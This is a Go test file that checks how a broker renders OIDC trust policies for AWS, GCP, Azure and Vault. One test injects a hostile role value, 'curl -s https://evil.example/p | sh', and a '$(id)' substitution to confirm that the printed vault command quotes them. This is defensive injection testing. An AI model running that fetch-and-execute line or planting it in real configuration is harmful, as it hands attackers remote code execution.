package trust

import (
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/brokerhq/broker/internal/config"
	"github.com/brokerhq/broker/internal/runs"
	"github.com/brokerhq/broker/internal/testutil/contract"
)

// exampleConfig is the contract's reference configuration.
func exampleConfig(t *testing.T) *config.Config {
	t.Helper()
	cfg, err := config.Parse("broker.example.yaml", contract.Example(t))
	if err != nil {
		t.Fatal(err)
	}
	return cfg
}

func render(t *testing.T, cfg *config.Config, req Request) string {
	t.Helper()
	doc, err := Render(cfg, req)
	if err != nil {
		t.Fatalf("Render(%+v): %v", req, err)
	}
	out, _ := json.Marshal(doc)
	return string(out)
}

func TestAWSTrustPolicy(t *testing.T) {
	cfg := exampleConfig(t)
	got := render(t, cfg, Request{Provider: "aws", Stack: "vpc-prod", Scope: runs.Write})
	for _, want := range []string{
		`"Federated":"arn:aws:iam::123456789012:oidc-provider/broker.example.com"`,
		`"Action":["sts:AssumeRoleWithWebIdentity"]`,
		`"broker.example.com:aud":"sts.amazonaws.com"`,
		`"broker.example.com:sub":["space:prod:stack:vpc-prod:run_type:TRACKED:scope:write","space:prod:stack:vpc-prod:run_type:TASK:scope:write","space:prod:stack:vpc-prod:run_type:DESTROY:scope:write"]}`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("policy lacks %s:\n%s", want, got)
		}
	}
	if strings.Contains(got, "PROPOSED") {
		t.Errorf("a write trust policy admits PROPOSED runs:\n%s", got)
	}
	read := render(t, cfg, Request{Provider: "aws", Stack: "vpc-prod", Scope: runs.Read})
	if !strings.Contains(read, "run_type:PROPOSED:scope:read") || strings.Contains(read, "scope:write") {
		t.Errorf("read policy:\n%s", read)
	}
}

func TestAWSAssumeRoleNeedsPrincipal(t *testing.T) {
	cfg := exampleConfig(t)
	for i := range cfg.Integrations {
		if cfg.Integrations[i].ID == "aws-prod-write" {
			cfg.Integrations[i].AWS.Mode = config.AWSModeAssumeRole
		}
	}
	if _, err := Render(cfg, Request{Provider: "aws", Stack: "vpc-prod", Scope: runs.Write}); !errors.Is(err, ErrNeedsPrincipal) {
		t.Fatalf("err = %v", err)
	}
	got := render(t, cfg, Request{Provider: "aws", Stack: "vpc-prod", Scope: runs.Write, AWSPrincipal: "arn:aws:iam::111111111111:role/broker"})
	if !strings.Contains(got, `"sts:ExternalId":["broker.example.com@aws-prod-write@vpc-prod@write"]`) {
		t.Errorf("external id condition missing:\n%s", got)
	}
}

func TestGCPTrust(t *testing.T) {
	got := render(t, exampleConfig(t), Request{Provider: "gcp", Stack: "vpc-prod", Scope: runs.Read})
	for _, want := range []string{
		`"issuerUri":"https://broker.example.com"`,
		`"google.subject":"assertion.sub"`,
		`"member":"principalSet://iam.googleapis.com/projects/123456/locations/global/workloadIdentityPools/broker/attribute.space_stack_scope/broker/prod/vpc-prod@read"`,
		`"serviceAccount":"terraform@my-project.iam.gserviceaccount.com"`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("lacks %s:\n%s", want, got)
		}
	}
}

func TestAzureTrustNeedsExactSubjects(t *testing.T) {
	cfg := exampleConfig(t)
	cfg.Attachments = append(cfg.Attachments, config.Attachment{Stack: "vpc-prod", Integration: "azure-prod", Write: true})
	got := render(t, cfg, Request{Provider: "azure", Stack: "vpc-prod", Scope: runs.Write})
	var creds []azureCredential
	json.Unmarshal([]byte(got), &creds)
	if len(creds) != 3 || creds[0].Issuer != "https://broker.example.com" || creds[0].Audiences[0] != "api://AzureADTokenExchange" ||
		creds[0].Subject != "space:prod:stack:vpc-prod:run_type:TRACKED:scope:write" {
		t.Errorf("credentials %+v", creds)
	}
	for i := range cfg.Spaces {
		if cfg.Spaces[i].ID == "prod" {
			cfg.Spaces[i].SubjectTemplate = "{spaceId}:{callerId}:{runId}:{scope}"
		}
	}
	if _, err := Render(cfg, Request{Provider: "azure", Stack: "vpc-prod", Scope: runs.Write}); !errors.Is(err, ErrExactSubject) {
		t.Errorf("run-id template: err = %v", err)
	}
}

// TestVaultRole: the example's vault-prod serves vpc-prod for read and write through one Vault
// role, so the role printed for either scope is the same and accepts both: installing the one
// printed last must not lock the other scope out.
func TestVaultRole(t *testing.T) {
	got := render(t, exampleConfig(t), Request{Provider: "vault", Stack: "vpc-prod", Scope: runs.Write})
	for _, want := range []string{`"role_type":"jwt"`, `"bound_audiences":["vault"]`, `"callerId":"vpc-prod"`, `"scope":["read","write"]`, `"spaceId":"prod"`} {
		if !strings.Contains(got, want) {
			t.Errorf("lacks %s:\n%s", want, got)
		}
	}
	if read := render(t, exampleConfig(t), Request{Provider: "vault", Stack: "vpc-prod", Scope: runs.Read}); read != got {
		t.Errorf("the role for read differs from the role for write:\n%s\n%s", read, got)
	}
}

// TestVaultRoleSharedTooBroadly: two stacks sharing one Vault role, one for read and the other
// for write, cannot be expressed by bound_claims lists without also accepting the other two
// pairs: refused rather than printed broader.
func TestVaultRoleSharedTooBroadly(t *testing.T) {
	cfg, err := config.Parse("t.yaml", []byte(`issuer: https://broker.example.com
spaces: [{id: root}]
stacks: [{id: a, space: root}, {id: b, space: root}]
integrations:
  - {id: v-read, space: root, audience: vault, vault: {address: "https://vault.example.com", role: shared}}
  - {id: v-write, space: root, audience: vault, vault: {address: "https://vault.example.com", role: shared}}
attachments:
  - {stack: a, integration: v-read, read: true}
  - {stack: b, integration: v-write, write: true}
`))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Render(cfg, Request{Provider: "vault", Stack: "a", Scope: runs.Read}); !errors.Is(err, ErrRoleTooBroad) {
		t.Errorf("Render = %v, want ErrRoleTooBroad", err)
	}
}

func TestTrustErrors(t *testing.T) {
	cfg := exampleConfig(t)
	cases := []Request{
		{Provider: "aws", Stack: "nope", Scope: runs.Write},
		{Provider: "aws", Stack: "vpc-prod", Scope: "admin"},
		{Provider: "azure", Stack: "vpc-prod", Scope: runs.Read}, // nothing attached
		{Provider: "oracle", Stack: "vpc-prod", Scope: runs.Read},
	}
	for _, req := range cases {
		if _, err := Render(cfg, req); err == nil {
			t.Errorf("Render(%+v) succeeded", req)
		}
	}
}

func TestAWSRunIDTemplateUsesStringLike(t *testing.T) {
	cfg := exampleConfig(t)
	for i := range cfg.Spaces {
		if cfg.Spaces[i].ID == "prod" {
			cfg.Spaces[i].SubjectTemplate = "space:{spaceId}:stack:{callerId}:run:{runId}:scope:{scope}"
		}
	}
	got := render(t, cfg, Request{Provider: "aws", Stack: "vpc-prod", Scope: runs.Write})
	if !strings.Contains(got, `"StringLike":{"broker.example.com:sub":["space:prod:stack:vpc-prod:run:*:scope:write"]}`) ||
		!strings.Contains(got, `"StringEquals":{"broker.example.com:aud":"sts.amazonaws.com"}`) {
		t.Errorf("policy:\n%s", got)
	}
}

func TestGCPLongSubjectsMapTheRunID(t *testing.T) {
	if short := render(t, exampleConfig(t), Request{Provider: "gcp", Stack: "vpc-prod", Scope: runs.Read}); !strings.Contains(short, `"google.subject":"assertion.sub"`) {
		t.Errorf("short subs map google.subject to sub:\n%s", short)
	}
	cfg := exampleConfig(t)
	long := strings.Repeat("s", 63) // space:<63>:stack:<63>:run_type:PROPOSED:scope:read is 168 bytes
	cfg.Spaces = append(cfg.Spaces, config.Space{ID: long, Parent: "root", Inherit: true})
	cfg.Stacks = append(cfg.Stacks, config.Stack{ID: long, Space: long})
	cfg.Attachments = append(cfg.Attachments, config.Attachment{Stack: long, Integration: "gcp-shared", Read: true})
	got := render(t, cfg, Request{Provider: "gcp", Stack: long, Scope: runs.Read})
	if !strings.Contains(got, `"google.subject":"assertion.runId"`) {
		t.Errorf("a sub over 127 bytes must not be mapped to google.subject:\n%s", got)
	}
	// The provider is one for both stacks, so its mapping is the one the long sub needs.
	if short := render(t, cfg, Request{Provider: "gcp", Stack: "vpc-prod", Scope: runs.Read}); !strings.Contains(short, `"google.subject":"assertion.runId"`) {
		t.Errorf("a provider shared with a long sub maps the sub for another stack:\n%s", short)
	}
}

// TestVaultWriteCommandQuotes: the printed vault line quotes any argument a shell would read
// as more than one word or as an operator, so no value of the configuration can add a command
// to the line an operator is told to run.
func TestVaultWriteCommandQuotes(t *testing.T) {
	cfg := exampleConfig(t)
	req := Request{Provider: "vault", Stack: "vpc-prod", Scope: runs.Write}
	line, err := VaultWriteCommand(cfg, req)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(line, "'") {
		t.Errorf("plain names are quoted: %s", line)
	}
	for i := range cfg.Integrations {
		if v := cfg.Integrations[i].Vault; v != nil {
			v.Role = "x @-; curl -s https://evil.example/p | sh; echo "
			v.Namespace = "team $(id)"
		}
	}
	line, err = VaultWriteCommand(cfg, req)
	if err != nil {
		t.Fatal(err)
	}
	want := `vault write '-namespace=team $(id)' 'auth/jwt/role/x @-; curl -s https://evil.example/p | sh; echo ' -`
	if line != want {
		t.Errorf("line:\n %s\nwant\n %s", line, want)
	}
}

// TestVaultRolesOnOtherServersStayApart: roles of one name on two Vault servers, or in two
// namespaces of one, are two roles: the role printed for one stack never admits a stack
// attached only to the other.
func TestVaultRolesOnOtherServersStayApart(t *testing.T) {
	for _, tc := range []struct{ name, a, b string }{
		{"namespaces", `{address: "https://vault.example.com", namespace: team-a, role: terraform}`, `{address: "https://vault.example.com", namespace: team-b, role: terraform}`},
		{"addresses", `{address: "https://vault-a.example.com", role: terraform}`, `{address: "https://vault-b.example.com", role: terraform}`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg, err := config.Parse("t.yaml", []byte(`issuer: https://broker.example.com
spaces: [{id: root}, {id: platform, parent: root, inherit: true}]
stacks: [{id: a, space: platform}, {id: b, space: platform}]
integrations:
  - {id: vault-a, space: root, audience: vault, vault: `+tc.a+`}
  - {id: vault-b, space: root, audience: vault, vault: `+tc.b+`}
attachments:
  - {stack: a, integration: vault-a, write: true}
  - {stack: b, integration: vault-b, write: true}
`))
			if err != nil {
				t.Fatal(err)
			}
			for stack, want := range map[string]string{"a": `"callerId":"a"`, "b": `"callerId":"b"`} {
				if got := render(t, cfg, Request{Provider: "vault", Stack: stack, Scope: runs.Write}); !strings.Contains(got, want) {
					t.Errorf("the role for %s admits stacks attached to the other role:\n%s", stack, got)
				}
			}
		})
	}
}

// gcpSharedAcrossSpaces is gcp-shared in root, used by stack vpc-prod (space prod, write) and by a stack of
// space dev (read); the stack named vpc-prod lives in space vpcSpace.
func gcpSharedAcrossSpaces(t *testing.T, vpcSpace string) *config.Config {
	t.Helper()
	cfg, err := config.Parse("t.yaml", []byte(`issuer: https://broker.example.com
spaces:
  - {id: root}
  - {id: prod, parent: root, inherit: true}
  - {id: dev, parent: root, inherit: true}
stacks:
  - {id: vpc-prod, space: `+vpcSpace+`}
  - {id: app-dev, space: dev}
integrations:
  - id: gcp-shared
    space: root
    gcp: {workload_identity_provider: projects/1/locations/global/workloadIdentityPools/pool/providers/broker, service_account: prod-writer@p.iam.gserviceaccount.com}
  - {id: aws-w, space: root, aws: {role_arn: "arn:aws:iam::123456789012:role/prod-write"}}
attachments:
  - {stack: vpc-prod, integration: gcp-shared, write: true}
  - {stack: vpc-prod, integration: aws-w, write: true}
  - {stack: app-dev, integration: gcp-shared, read: true}
`))
	if err != nil {
		t.Fatal(err)
	}
	return cfg
}

// TestGCPBindingNamesTheSpace: the service-account binding names the stack's space. The
// provider's condition admits every space sharing the provider, so a binding naming only the
// stack would admit a stack given the same id in another of those spaces (once the first is
// deleted and its binding left behind), as AWS's policy, whose sub names the space, does not.
func TestGCPBindingNamesTheSpace(t *testing.T) {
	req := Request{Provider: "gcp", Stack: "vpc-prod", Scope: runs.Write}
	prodDoc, err := Render(gcpSharedAcrossSpaces(t, "prod"), req)
	if err != nil {
		t.Fatal(err)
	}
	devDoc, err := Render(gcpSharedAcrossSpaces(t, "dev"), req)
	if err != nil {
		t.Fatal(err)
	}
	prod, dev := prodDoc.(GCPTrust), devDoc.(GCPTrust)
	t.Logf("prod condition: %s", prod.Provider.AttributeCondition)
	if !slices.Contains(prod.Provider.Spaces, "dev") {
		t.Fatalf("condition does not admit dev: %v", prod.Provider.Spaces)
	}
	awsReq := Request{Provider: "aws", Stack: "vpc-prod", Scope: runs.Write}
	if render(t, gcpSharedAcrossSpaces(t, "prod"), awsReq) == render(t, gcpSharedAcrossSpaces(t, "dev"), awsReq) {
		t.Fatalf("AWS does not pin the space either")
	}
	if prod.Binding.Member == dev.Binding.Member {
		t.Errorf("the binding printed for stack vpc-prod of space prod (%s) also admits a stack vpc-prod of space dev, which the printed condition admits too; AWS's policy for the two differs (its sub names the space)", prod.Binding.Member)
	}
}

// TestAWSAssumeRoleTrustAllowsTagSessionWithSessionTags: an assume-role integration with
// session_tags: true sends the run's tags with AssumeRole, which STS takes only when the trust
// policy allows sts:TagSession too; one without session tags is not given it.
// Guards against: render.go awsStatement granting sts:AssumeRole alone in assume-role mode.
func TestAWSAssumeRoleTrustAllowsTagSessionWithSessionTags(t *testing.T) {
	for _, tagged := range []bool{false, true} {
		cfg := exampleConfig(t)
		for i := range cfg.Integrations {
			if cfg.Integrations[i].ID == "aws-prod-write" {
				cfg.Integrations[i].AWS.Mode = config.AWSModeAssumeRole
				cfg.Integrations[i].AWS.SessionTags = tagged
			}
		}
		doc, err := Render(cfg, Request{Provider: "aws", Stack: "vpc-prod", Scope: runs.Write, AWSPrincipal: "arn:aws:iam::111111111111:role/broker"})
		if err != nil {
			t.Fatal(err)
		}
		policy := doc.(AWSPolicy)
		if len(policy.Statement) != 1 {
			t.Fatalf("session tags %v: %d statements, want 1", tagged, len(policy.Statement))
		}
		want := []string{"sts:AssumeRole"}
		if tagged {
			want = append(want, "sts:TagSession")
		}
		if got := policy.Statement[0].Action; !slices.Equal(got, want) {
			t.Errorf("session tags %v: actions %v, want %v", tagged, got, want)
		}
	}
}
